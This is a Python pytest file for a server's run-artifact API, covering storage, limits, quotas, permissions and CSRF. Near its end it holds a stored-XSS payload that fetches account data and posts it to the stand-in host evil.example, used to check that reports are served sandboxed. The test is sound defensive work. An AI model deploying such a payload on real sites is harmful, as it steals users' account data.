"""Documents beside a run: stored as they came, once, within limits and quota, shown to the team, gone with the run.

And what a report's script may do at the server's address: nothing.
"""

from __future__ import annotations

import http.client
import json
import pathlib
from typing import Any

import pytest
from databases import choice
from server_support import Answer, Client, Server, first_team, make_token, sign_up

GRAPH = b'{ "version": 1,\n  "layers": [1.0, "\xc3\xa4"] }\n'
KB = 1000


def put(client: Client, run: str, kind: str, body: bytes, media_type: str | None = None, **headers: str) -> Answer:
    if media_type is None:
        media_type = "text/html; charset=utf-8" if kind == "report" else "application/json"
    path = f"/api/v1/runs/{run}/artifacts/{kind}"
    return client.request("PUT", path, body, {"Content-Type": media_type, **headers})


def get(client: Client, run: str, kind: str) -> Answer:
    return client.get(f"/api/v1/runs/{run}/artifacts/{kind}")


@pytest.mark.parametrize("kind", ["graph", "hardware", "config", "report"])
def test_a_document_comes_back_byte_for_byte(program: Client, key, kind: str) -> None:
    run = program.begin_run(key())
    body = b"<p>\xff\x00\x80</p>" if kind == "report" else GRAPH
    assert get(program, run, kind).status == 404
    made = put(program, run, kind, body)
    assert made.status == 201 and (made.json["kind"], made.json["bytes"]) == (kind, len(body)), made.text
    assert get(program, run, kind).body == body
    assert program.get(f"/api/v1/runs/{run}").json["artifacts"] == [made.json]


def test_the_same_bytes_change_nothing_and_others_replace_them(program: Client, key) -> None:
    run = program.begin_run(key())
    first = put(program, run, "graph", GRAPH)
    again = put(program, run, "graph", GRAPH)
    assert again.status == 200 and again.json == first.json
    other = put(program, run, "graph", b'{"version": 2}')
    assert other.status == 200 and other.json["bytes"] == 14
    assert get(program, run, "graph").body == b'{"version": 2}'
    put(program, run, "hardware", b"{}")
    shown = program.get(f"/api/v1/runs/{run}").json["artifacts"]
    assert [(item["kind"], item["bytes"]) for item in shown] == [("graph", 14), ("hardware", 2)]


def test_what_is_no_such_document_is_refused_and_stores_nothing(program: Client, key) -> None:
    run = program.begin_run(key())
    for body, status in ((b"{", 400), (b"[]", 400), (b"", 400), (b"\xff", 400), (b'{"a":1,"a":2}', 400)):
        assert put(program, run, "graph", body).status == status, body
    for body in (b"", b"report", b"{}", b" <p>"):
        assert put(program, run, "report", body).status == 422, body
    assert put(program, run, "graph", GRAPH, "text/html").status == 415
    assert put(program, run, "report", b"<p>", "application/json").status == 415
    assert put(program, run, "weights", b"{}").status == 404
    assert put(program, run, "plan", b"{}").status == 404
    assert program.get(f"/api/v1/runs/{run}").json["artifacts"] == []


def filled(size: int) -> bytes:
    return json.dumps({"x": "a" * (size - len('{"x": ""}'))}).encode()


def announced(client: Client, run: str, kind: str, size: int) -> int:
    """The status for a body of this size: it is refused before any of it is read."""
    connection = http.client.HTTPConnection("127.0.0.1", client.server.port, timeout=60)
    connection.putrequest("PUT", f"/api/v1/runs/{run}/artifacts/{kind}")
    media_type = "text/html" if kind == "report" else "application/json"
    for name, value in (("Content-Type", media_type), ("Authorization", f"Bearer {client.token}")):
        connection.putheader(name, value)
    connection.putheader("Content-Length", str(size))
    connection.endheaders()
    status = connection.getresponse().status
    connection.close()
    return status


@pytest.mark.parametrize(
    ("kind", "most"), [("graph", 16_000 * KB), ("hardware", 64 * KB), ("config", 64 * KB), ("report", 4_000 * KB)]
)
def test_each_kind_has_its_limit(program: Client, key, kind: str, most: int) -> None:
    run = program.begin_run(key())
    body = filled(most) if kind != "report" else b"<" + b"p" * (most - 1)
    assert len(body) == most and put(program, run, kind, body).status == 201
    assert get(program, run, kind).body == body
    assert announced(program, run, kind, most + 1) == 413
    assert get(program, run, kind).body == body


def test_bytes_count_in_the_quota_until_the_run_is_deleted(data: pathlib.Path) -> None:
    server = Server(data, "--team-quota", "20000", "--limits", "1000000")
    try:
        owner = sign_up(server, server.first_key(), "owner")
        program = Client(server, make_token(owner, first_team(owner), "runs:write", "runs:read"))
        run = program.begin_run("one")

        def stored() -> int:
            return int(choice.now.sql(data, f"SELECT stored_bytes FROM run WHERE id = '{run}'"))

        before = stored()
        assert put(program, run, "graph", filled(10_000)).status == 201 and stored() == before + 10_000
        assert put(program, run, "graph", filled(10_000)).status == 200 and stored() == before + 10_000
        assert put(program, run, "hardware", filled(12_000)).status == 507
        assert put(program, run, "graph", filled(20_000)).status == 507 and stored() == before + 10_000
        assert put(program, run, "graph", filled(2_000)).status == 200 and stored() == before + 2_000
        assert put(program, run, "hardware", filled(12_000)).status == 201 and stored() == before + 14_000
        assert owner.send("DELETE", f"/api/v1/runs/{run}").status == 204
        assert choice.now.sql(data, "SELECT count(*) FROM artifact") == "0"
        run = program.begin_run("two")
        assert put(program, run, "graph", filled(15_000)).status == 201
    finally:
        server.stop()


def test_only_writers_of_the_team_store_and_only_readers_see(
    server: Server, owner: Client, program: Client, stranger: Client, team: str, key
) -> None:
    run = program.begin_run(key())
    reader, writer = (Client(server, make_token(owner, team, scope)) for scope in ("runs:read", "runs:write"))
    assert put(reader, run, "graph", GRAPH).status == 403
    assert put(writer, run, "graph", GRAPH).status == 201
    assert get(writer, run, "graph").status == 403 and get(reader, run, "graph").status == 200
    assert put(Client(server), run, "graph", GRAPH).status == get(Client(server), run, "graph").status == 401
    theirs: dict[str, Any] = {"X-CSRF-Token": stranger.csrf()}
    assert put(stranger, run, "graph", b"{}", **theirs).status == get(stranger, run, "graph").status == 404
    assert put(owner, run, "graph", b"{}").status == 403  # a session without the form token
    assert get(owner, run, "graph").body == GRAPH


ATTACK = b"""<!doctype html><script>
fetch('/api/v1/account').then(a => a.text()).then(t => fetch('https://evil.example/', {method: 'POST', body: t}));
</script><form action=/account/delete method=post></form><img src=x onerror=alert(1)>"""


def test_a_report_can_not_act_as_who_opens_it(owner: Client, program: Client, key) -> None:
    """Stored XSS: the report is saved, not shown; shown all the same, it has no script, no network and no origin."""
    run = program.begin_run(key())
    assert put(program, run, "report", ATTACK).status == 201
    for client in (owner, program):
        answer = get(client, run, "report")
        assert answer.status == 200 and answer.body == ATTACK
        assert answer.headers["content-disposition"].split(";")[0] == "attachment"
        assert answer.headers["x-content-type-options"] == "nosniff"
        policy = {part.split()[0]: part.split()[1:] for part in answer.headers["content-security-policy"].split(";")}
        assert policy["sandbox"] == [] and policy["default-src"] == ["'none'"]  # neither scripts nor our origin
        assert policy["frame-ancestors"] == ["'none'"] and "script-src" not in policy
    assert put(program, run, "graph", json.dumps({"x": ATTACK.decode()}).encode()).status == 201
    graph = get(owner, run, "graph")
    assert graph.headers["content-type"] == "application/json" and graph.headers["x-content-type-options"] == "nosniff"
    page = owner.get(f"/runs/{run}")
    assert b"<script>" not in page.body and b"onerror" not in page.body
